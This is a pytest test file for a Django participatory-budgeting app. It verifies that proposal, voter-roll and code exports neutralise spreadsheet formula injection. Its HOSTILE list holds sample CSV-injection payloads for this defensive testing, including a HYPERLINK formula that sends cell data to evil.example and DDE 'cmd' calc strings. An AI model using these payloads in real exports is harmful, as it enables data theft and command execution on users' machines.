"""Every CSV/XLSX export neutralises text that a spreadsheet would run as a formula (OWASP CSV injection),
through pb.core.spreadsheet.safe_cell; numbers stay numbers."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from ballots.models import ImportJob
from pb.core.models import Phase
from pb.core.spreadsheet import safe_cell, safe_dataset
from tests.ballots.roll_support import make_voter
from tests.factories import ElectionFactory, PotFactory, ProposalFactory, official

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_prefixes_formula_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5, 0, 12.5, -3.25, None, True, "Park", "", "a=b", "-12", "-33.5", "+7"])
def test_safe_cell_leaves_numbers_and_plain_text(value):
    assert safe_cell(value) is value or safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_safe_dataset_keeps_ints_as_ints():
    import tablib

    data = tablib.Dataset(headers=["a", "=b"])
    data.append([-5, "=1"])
    out = safe_dataset(data)
    assert out.headers == ["a", "'=b"] and out[0] == (-5, "'=1")


@pytest.fixture
def election():
    e = ElectionFactory(phase=Phase.REVIEW, slug="inject")
    PotFactory(election=e, slug="north", name="North")
    return e


@pytest.mark.django_db
def test_proposal_export_csv_and_xlsx(client, election):
    pot = election.pots.get()
    for i, text in enumerate(HOSTILE):
        ProposalFactory(pot=pot, title=text[:140], description=text, location=text, cost=1000 + i)
    client.force_login(official())
    data = client.get(reverse("proposals:export", args=[election.slug, "csv"])).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("title", "description", "location"):
            assert row[column].startswith("'"), (column, row[column])
    xlsx = client.get(reverse("proposals:export", args=[election.slug, "xlsx"])).content
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    header = [c.value for c in sheet[1]]
    for cells in sheet.iter_rows(min_row=2):
        row = dict(zip(header, cells, strict=True))
        for column in ("title", "description", "location"):
            cell = row[column]
            assert cell.data_type == "s" and cell.value.startswith("'"), (column, cell.value)
        # Numbers stay numbers: officials sum the cost column.
        assert row["cost"].data_type == "n" and isinstance(row["cost"].value, int)
        assert row["final_cost"].data_type == "n"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)  # no formula anywhere


@pytest.mark.django_db
def test_import_template_has_nothing_to_neutralise(client, election):
    client.force_login(official())
    template = client.get(reverse("proposals:import_template", args=[election.slug])).content
    assert b"'=" not in template  # nothing to neutralise in our own example


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_roll_error_report_and_roll_export(client, election, fmt, settings, tmp_path):
    settings.PB_VAR_DIR = tmp_path
    client.force_login(official())
    job = ImportJob.objects.create(
        election=election,
        filename="r.csv",
        status=ImportJob.Status.INVALID,
        errors=[
            {"row": 2, "column": "=cmd", "message": "@SUM(A1)"},
            {"row": 3, "column": "x", "message": "-1"},
        ],
        error_count=2,
    )
    make_voter(election, election.pots.get(), ref="R-1")
    query = "?format=xlsx" if fmt == "xlsx" else ""
    url = reverse("ballots:roll_errors", args=[election.slug, job.pk]) + query
    body = client.get(url).content
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        assert "'=cmd" in text and "'@SUM(A1)" in text
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        values = [[c.value for c in r] for r in sheet.iter_rows()]
        assert values[1][1] == "'=cmd" and values[1][2] == "'@SUM(A1)"
        assert values[2][2] == "-1"  # a plain number written as text stays as it is (not a formula)
        assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    url = reverse("ballots:roll_export", args=[election.slug]) + query
    assert client.get(url).status_code == 200


@pytest.mark.django_db
def test_codes_csv_neutralises_the_officials_references(client, election, settings, tmp_path):
    settings.PB_PUBLIC_URL = "https://pb.example.org"
    settings.PB_VAR_DIR = tmp_path
    make_voter(election, election.pots.get(), ref="=1+1")
    client.force_login(official())
    refs = SimpleUploadedFile("refs.csv", b"reference\n=1+1\n")
    r = client.post(
        reverse("ballots:codes_generate", args=[election.slug]),
        {"limit": 10, "output": "csv", "references": refs},
    )
    assert r.status_code == 200, r.content.decode()[-500:]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'=1+1"
